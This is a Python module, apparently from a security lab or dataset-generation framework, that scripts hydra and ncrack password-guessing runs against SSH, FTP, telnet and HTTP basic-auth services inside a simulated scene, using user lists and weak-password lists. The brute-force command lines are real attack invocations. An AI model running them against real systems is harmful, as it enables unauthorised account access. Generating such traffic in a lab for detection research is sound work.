"""Attacks that guess passwords, from a list of users and a list of what is often chosen."""

from __future__ import annotations

import random

from lab.attacks.attack import Attack, Scripts, command, some_web
from lab.scene import USERS, WEAK_PASSWORDS, WEAK_USER, Scene


def _hydra(kind: str, scene: Scene, target: str, tasks: int, *more: str) -> Scripts:
    users, passwords = str(scene.folder / "users.txt"), str(scene.folder / "passwords.txt")
    argv = ("hydra", "-I", "-q", "-L", users, "-P", passwords, "-t", str(tasks), target, *more)
    return {kind: [command(kind, *argv)]}


def _ncrack(kind: str, scene: Scene, rng: random.Random, target: str) -> Scripts:
    users, passwords = str(scene.folder / "users.txt"), str(scene.folder / "passwords.txt")
    at_once = rng.randrange(4, 9)
    argv = ("ncrack", "-U", users, "-P", passwords, "-g", f"CL={at_once}", "-T", "4", target)
    return {kind: [command(kind, *argv)]}


def hydra_ssh(scene: Scene, rng: random.Random) -> Scripts:
    """SSH, started anew for each guess: hydra 9.4 hangs when a server ends a connection."""
    target, commands = f"ssh://{scene.address('ssh1')}", []
    for i in range(75):
        user, password = rng.choice((WEAK_USER, "root", *USERS)), rng.choice(WEAK_PASSWORDS)
        argv = ("hydra", "-I", "-q", "-l", user, "-p", password, "-t", "1", target)
        commands.append(command("hydra_ssh", *argv, at_s=0.55 * i, timeout_s=8.0))
    return {"hydra_ssh": commands}


def hydra_ftp(scene: Scene, rng: random.Random) -> Scripts:
    """FTP."""
    return _hydra("hydra_ftp", scene, f"ftp://{scene.address('ftp1')}", rng.randrange(6, 13))


def hydra_telnet(scene: Scene, _rng: random.Random) -> Scripts:
    """Telnet; hydra often waits for an answer that it has overlooked, until it is hung up."""
    return _hydra("hydra_telnet", scene, f"telnet://{scene.address('telnet1')}", 16)


def hydra_http(scene: Scene, rng: random.Random) -> Scripts:
    """HTTP's basic authentication."""
    target = f"http-get://{some_web(scene, rng)}/member/page01.html"
    return _hydra("hydra_http", scene, target, rng.randrange(3, 9))


def ncrack_ssh(scene: Scene, rng: random.Random) -> Scripts:
    """SSH."""
    return _ncrack("ncrack_ssh", scene, rng, f"ssh://{scene.address('ssh1')}")


def ncrack_ftp(scene: Scene, rng: random.Random) -> Scripts:
    """FTP."""
    return _ncrack("ncrack_ftp", scene, rng, f"ftp://{scene.address('ftp1')}")


def ncrack_telnet(scene: Scene, rng: random.Random) -> Scripts:
    """Telnet."""
    return _ncrack("ncrack_telnet", scene, rng, f"telnet://{scene.address('telnet1')}")


GUESSING = (
    Attack(hydra_ssh, "hydra", 50, 20_000, "guesses at SSH, each by a new hydra"),
    Attack(hydra_ftp, "hydra", 48, 20_000, "guesses at FTP"),
    Attack(hydra_telnet, "hydra", 50, 20_000, "guesses at telnet"),
    Attack(hydra_http, "hydra", 10, 20_000, "guesses at a web page's password"),
    Attack(ncrack_ssh, "ncrack", 20, 20_000, "guesses at SSH"),
    Attack(ncrack_ftp, "ncrack", 60, 20_000, "guesses at FTP"),
    Attack(ncrack_telnet, "ncrack", 30, 20_000, "guesses at telnet"),
)
